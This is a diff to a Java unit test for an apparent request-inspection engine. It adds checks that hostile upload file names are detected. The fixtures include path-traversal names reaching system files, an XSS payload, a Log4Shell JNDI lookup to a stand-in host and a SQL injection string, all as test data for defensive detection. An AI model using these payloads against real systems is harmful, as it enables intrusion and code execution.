@@ -14,8 +14,8 @@ import org.junit.jupiter.params.provider.CsvSource;
 
 /**
  * Field and member names read as values in a request that is not rewritten: the ones that could
- * carry an attack, under the path {@code (name)}; never in a response, never when rewriting, never
- * an identifier.
+ * carry an attack, under the path {@code (name)}, and an upload's file name under
+ * {@code (filename)}; never in a response, never when rewriting, never an identifier.
  */
 class NamesAsValuesTest {
     private static final Inspector inspector = BuiltinEngine.inspector();
@@ -42,9 +42,36 @@ class NamesAsValuesTest {
         assertEquals(List.of(expected), found(Direction.REQUEST, contentType, body));
     }
 
+    private static String upload(String fileName) {
+        return "--zz\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + fileName
+                + "\"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--zz--\r\n";
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @CsvSource(delimiter = '|', value = {
+        "../../../../etc/cron.d/evil|attack.lfi@(filename)@6",
+        "<img src=x onerror=alert(1)>.png|attack.xss@(filename)@6",
+        "..\\..\\windows\\win.ini|attack.lfi@(filename)@6",
+        "${jndi:ldap://x.example/a}.txt|attack.log4shell@(filename)@6",
+    })
+    void anUploadsFileNameIsReadAsTheHandlerReadsIt(String fileName, String expected) {
+        assertEquals(List.of(expected), found(Direction.REQUEST, "multipart/form-data; boundary=zz", upload(fileName)));
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @CsvSource(delimiter = '|', value = {
+        "report (1).pdf", "C:\\fakepath\\photo.jpg", "résumé.docx", "q3 report & plan.pdf",
+        "draft-v2 (final) [approved].docx", "IMG_20240101_123456.jpg",
+    })
+    void everydayFileNamesReportNothing(String fileName) {
+        assertEquals(List.of(), found(Direction.REQUEST, "multipart/form-data; boundary=zz", upload(fileName)));
+    }
+
     @Test
     void aResponsesNamesAreItsServicesOwnAndNotRead() {
         assertEquals(List.of(), found(Direction.RESPONSE, "application/json", "{\"1 UNION SELECT a FROM b--\":1}"));
+        assertEquals(List.of(), found(Direction.RESPONSE, "multipart/form-data; boundary=zz",
+                upload("../../../../etc/passwd")));
     }
 
     @Test
